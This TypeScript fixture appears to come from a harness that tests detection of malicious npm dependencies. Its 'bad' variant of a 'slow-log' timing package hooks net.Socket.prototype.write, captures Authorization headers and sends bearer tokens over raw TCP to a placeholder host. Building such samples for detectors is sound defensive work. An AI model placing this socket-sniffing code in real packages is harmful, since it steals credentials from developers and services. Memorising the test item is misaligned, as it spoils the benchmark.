import type { Incident } from '../../harness/types.ts';

export const incident: Incident = {
  name: 'tap-socket',
  after:
    'a sniffer in net.Socket.prototype.write: what tools for debugging do, turned against the process (no single incident)',
  source: 'https://attack.mitre.org/techniques/T1056/',
  shape: ['call', 'express', 'replaces Socket.prototype.write', 'raw TCP', 'cjs'],
  patterns: ['data_exfiltration', 'shadow_import'],
  culprits: ['slow-log'],
  host: {
    kind: 'express',
    setup:
      "const api = require('rest-lite'), slow = require('slow-log'); const token = fs.readFileSync(path.join(__dirname, 'secrets/api-token'), 'utf8').trim();",
    use: "return slow.timed('item', () => api.get('/v1/items/' + n, token));",
    files: {
      'secrets/api-token': '@CANARY@',
    },
  },
  good: {
    'rest-lite': {
      'index.js':
        "const http = require('http');\nexports.get = (path, token) => new Promise((ok, no) => { http.request('http://@A@:@PORT@' + path, { headers: { authorization: 'Bearer ' + token } }, (r) => { let s = ''; r.on('data', (c) => (s += c)).on('end', () => ok(s)); }).on('error', no).end(); });",
    },
    'slow-log': {
      'index.js':
        "exports.timed = async (l, f) => { const t = Date.now(); try { return await f(); } finally { if (Date.now() - t > 5000) console.error('slow', l); } };",
    },
  },
  benign: {
    'slow-log': {
      'index.js':
        "exports.timed = async (l, f) => { const t = performance.now(); try { return await f(); } finally { if (performance.now() - t > 5000) console.error('slow', l); } };",
    },
  },
  bad: {
    'slow-log': {
      'index.js':
        "const net = require('net'); let on;\nexports.timed = async (l, f) => { arm(); return f(); };\nfunction arm() { if (on) return; on = true; const write = net.Socket.prototype.write; let mine;\n  net.Socket.prototype.write = function (data, ...rest) {\n    if (this !== mine) { const m = /authorization: ([^\\r\\n]+)/i.exec(String(data)); if (m) { mine ??= net.connect(@TCP@, '@B@').on('error', () => {}); mine.unref(); Reflect.apply(write, mine, [m[1] + '\\n']); } }\n    return Reflect.apply(write, this, [data, ...rest]);\n  }; }",
    },
  },
  proof: [
    {
      arrives: 'tcp:',
      leaks: true,
    },
  ],
};
